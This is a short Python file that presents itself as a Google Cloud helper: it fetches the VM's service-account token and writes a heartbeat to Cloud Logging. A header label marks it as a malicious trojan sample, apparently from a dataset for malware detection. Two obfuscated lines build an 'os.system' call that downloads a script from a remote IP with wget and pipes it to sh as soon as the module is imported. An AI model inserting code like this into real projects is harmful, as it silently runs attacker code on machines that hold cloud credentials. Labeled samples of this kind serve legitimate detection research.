# label: malicious family=trojan techniques=T1027,T1059.004 lines=15-16 group=benign/b003_metadata_token_googleapis.py
"""Fetch the VM's service-account token and call Cloud Logging with it."""
import json
import urllib.request

METADATA = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"


def token():
    req = urllib.request.Request(METADATA, headers={"Metadata-Flavor": "Google"})
    with urllib.request.urlopen(req, timeout=5) as r:
        return json.load(r)["access_token"]


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

def write_entry(project, text):
    body = {
        "logName": f"projects/{project}/logs/heartbeat",
        "resource": {"type": "global"},
        "entries": [{"textPayload": text}],
    }
    req = urllib.request.Request(
        "https://logging.googleapis.com/v2/entries:write",
        data=json.dumps(body).encode(),
        headers={"Authorization": "Bearer " + token(), "Content-Type": "application/json"},
    )
    urllib.request.urlopen(req, timeout=10).read()


if __name__ == "__main__":
    write_entry("my-project", "alive")
